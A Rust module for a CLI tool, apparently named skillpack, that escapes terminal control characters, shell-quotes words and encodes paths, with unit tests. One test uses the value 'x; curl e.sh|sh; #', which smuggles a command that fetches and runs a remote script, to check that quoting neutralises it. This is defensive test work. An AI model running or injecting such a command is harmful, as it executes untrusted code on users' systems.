//! Text from outside (skills, archives, indexes, records) made safe to show on a terminal.
//!
//! Owns escaping and shell quoting only; what to print and where belongs to the command line.

use std::borrow::Cow;
use std::fmt::Write;

/// `s` with every control character (C0, DEL, C1) and every bidirectional override escaped
/// as `\u{…}` (`\n`, `\t` and `\r` as themselves, escaped), so that escape sequences in a
/// name, version or description cannot move the cursor, recolour or rewrite the screen.
pub fn escape(s: &str) -> Cow<'_, str> {
    if !s.chars().any(needs_escape) {
        return Cow::Borrowed(s);
    }
    let mut out = String::with_capacity(s.len() + 8);
    for c in s.chars() {
        match c {
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{{{:x}}}", c as u32);
            }
            c => out.push(c),
        }
    }
    Cow::Owned(out)
}

/// The first line of `s`, at most `max` characters of it, escaped ([`escape`]), with `…`
/// when anything was cut: a value quoted back in an error message.
pub fn excerpt(s: &str, max: usize) -> String {
    let line = s.lines().next().unwrap_or_default();
    let cut: String = line.chars().take(max).collect();
    let mut shown = escape(&cut).into_owned();
    if cut.len() < s.len() {
        shown.push('…');
    }
    shown
}

/// `s` with each line escaped as [`escape`] does, the line breaks kept: for multi-line
/// text such as a diff of a file.
pub fn escape_lines(s: &str) -> String {
    s.split_inclusive('\n')
        .map(|line| match line.strip_suffix('\n') {
            Some(l) => format!("{}\n", escape(l)),
            None => escape(line).into_owned(),
        })
        .collect()
}

/// `word` as one word of a POSIX shell command: unchanged when the shell would read it as
/// it is, else single-quoted, so that a name or path holding `;`, `|`, `$`, spaces or quotes
/// cannot become a second command when the user pastes what skillpack printed. A word
/// holding a NUL (which no command argument can) is shown escaped, in quotes.
pub fn shell_quote(word: &str) -> Cow<'_, str> {
    match shlex::try_quote(word) {
        Ok(quoted) => quoted,
        Err(_) => Cow::Owned(format!("'{}'", escape(word).replace('\'', "'\\''"))),
    }
}

/// A command line made of `words`, each quoted as [`shell_quote`] does.
pub fn shell_command<'a>(words: impl IntoIterator<Item = &'a str>) -> String {
    words
        .into_iter()
        .map(shell_quote)
        .collect::<Vec<_>>()
        .join(" ")
}

/// Bytes kept as they are in one segment of a URI path: the unreserved characters.
const URI_SEGMENT: &percent_encoding::AsciiSet = &percent_encoding::NON_ALPHANUMERIC
    .remove(b'-')
    .remove(b'.')
    .remove(b'_')
    .remove(b'~');

/// A relative file path as the path of a relative URI reference: its components joined by
/// `/`, every byte of a name outside the unreserved characters percent-encoded (a
/// backslash, tab or `#` in a Unix file name, a name that is not UTF-8, byte for byte), so
/// that the link names exactly that file. `.` components are left out.
pub fn uri_path(rel: &std::path::Path) -> String {
    use std::path::Component;
    let mut segments = Vec::new();
    for c in rel.components() {
        match c {
            Component::Normal(name) => segments
                .push(percent_encoding::percent_encode(&os_bytes(name), URI_SEGMENT).to_string()),
            Component::ParentDir => segments.push("..".to_string()),
            Component::CurDir | Component::RootDir | Component::Prefix(_) => {}
        }
    }
    segments.join("/")
}

/// The bytes of a file name: as stored on Unix; elsewhere its UTF-8 form.
fn os_bytes(name: &std::ffi::OsStr) -> Cow<'_, [u8]> {
    #[cfg(unix)]
    {
        use std::os::unix::ffi::OsStrExt;
        Cow::Borrowed(name.as_bytes())
    }
    #[cfg(not(unix))]
    {
        match name.to_string_lossy() {
            Cow::Borrowed(s) => Cow::Borrowed(s.as_bytes()),
            Cow::Owned(s) => Cow::Owned(s.into_bytes()),
        }
    }
}

/// A byte count as a limit is said: `128 MiB` when it is a whole number of KiB, MiB or GiB
/// (as `--max-size 128M` sets it), else `N bytes`.
pub fn byte_count(n: u64) -> String {
    for (unit, shift) in [("GiB", 30), ("MiB", 20), ("KiB", 10)] {
        if n >= 1 << shift && n.is_multiple_of(1 << shift) {
            return format!("{} {unit}", n >> shift);
        }
    }
    format!("{n} bytes")
}

/// Whether `c` is a control character outside ASCII (DEL, the C1 controls such as the
/// one-byte CSI U+009B) or a bidirectional control: characters that JSON and TOML writers
/// pass through as they are, and that a terminal or a code review would act on.
pub fn is_hidden_control(c: char) -> bool {
    needs_escape(c) && c as u32 >= 0x7f
}

/// A serialised JSON document with every [`is_hidden_control`] character written as a
/// `\uXXXX` escape: the same document, safe to print. Such characters can only occur
/// inside strings, where the escape means the same character.
pub fn json_safe(json: String) -> String {
    if !json.chars().any(is_hidden_control) {
        return json;
    }
    let mut out = String::with_capacity(json.len() + 16);
    for c in json.chars() {
        if is_hidden_control(c) {
            let _ = write!(out, "\\u{:04x}", c as u32);
        } else {
            out.push(c);
        }
    }
    out
}

/// `s` as a TOML basic string (`"…"`) with `\`, `"` and every control character escaped.
pub fn toml_basic_string(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + 2);
    out.push('"');
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if needs_escape(c) => {
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

fn needs_escape(c: char) -> bool {
    c.is_control()
        || matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{200e}' | '\u{200f}')
}

/// The name in `known` closest to `name`, when one is close enough to be what was meant
/// (`did you mean …?`): Jaro-Winkler similarity of at least 0.8, as cargo and clap use.
pub fn closest<'a>(name: &str, known: impl IntoIterator<Item = &'a str>) -> Option<&'a str> {
    known
        .into_iter()
        .filter(|k| *k != name)
        .map(|k| (strsim::jaro_winkler(name, k), k))
        .filter(|(score, _)| *score >= 0.8)
        .max_by(|a, b| a.0.total_cmp(&b.0))
        .map(|(_, k)| k)
}

#[cfg(test)]
mod tests {
    #[test]
    fn closest_names() {
        let known = ["account-management", "crm-management", "sales-playbook"];
        assert_eq!(
            super::closest("account-managment", known),
            Some("account-management")
        );
        assert_eq!(
            super::closest("sales-plabook", known),
            Some("sales-playbook")
        );
        assert_eq!(super::closest("zzz", known), None);
        assert_eq!(super::closest("crm-management", known), None);
    }

    use super::{escape, shell_command, shell_quote, uri_path};

    #[test]
    fn uri_paths_encode_what_a_link_cannot_hold() {
        use std::path::Path;
        assert_eq!(
            uri_path(Path::new("./skills/a-b_c.d~/SKILL.md")),
            "skills/a-b_c.d~/SKILL.md"
        );
        assert_eq!(
            uri_path(Path::new("my skills/x#1%/é.md")),
            "my%20skills/x%231%25/%C3%A9.md"
        );
        #[cfg(unix)]
        {
            use std::ffi::OsStr;
            use std::os::unix::ffi::OsStrExt;
            // A backslash or tab is part of a Unix name, and a Latin-1 byte is kept as is.
            assert_eq!(
                uri_path(Path::new("tab\\there/back\\\\slash/SKILL.md")),
                "tab%5Cthere/back%5C%5Cslash/SKILL.md"
            );
            assert_eq!(uri_path(Path::new("a\tb")), "a%09b");
            let latin1 = Path::new(OsStr::from_bytes(b"lat\xe9/SKILL.md"));
            assert_eq!(uri_path(latin1), "lat%E9/SKILL.md");
        }
    }

    #[test]
    fn escapes_terminal_control() {
        assert_eq!(escape("plain é"), "plain é");
        assert_eq!(escape("a\u{1b}[2Jb"), "a\\u{1b}[2Jb");
        assert_eq!(escape("x\ny\u{7f}\u{9b}"), "x\\ny\\u{7f}\\u{9b}");
        assert_eq!(escape("\u{202e}txt"), "\\u{202e}txt");
    }

    #[test]
    fn quotes_shell_words() {
        assert_eq!(shell_quote("crm-management"), "crm-management");
        assert_eq!(shell_quote("x; curl e.sh|sh; #"), "'x; curl e.sh|sh; #'");
        assert_eq!(shell_quote("it's"), "\"it's\"");
        assert_eq!(shell_quote(""), "''");
        assert_eq!(shell_quote("a\0b"), "'a\\u{0}b'");
        assert_eq!(
            shell_command(["skillpack", "install", "a b", "--dir", "/tmp/x y"]),
            "skillpack install 'a b' --dir '/tmp/x y'"
        );
    }
}
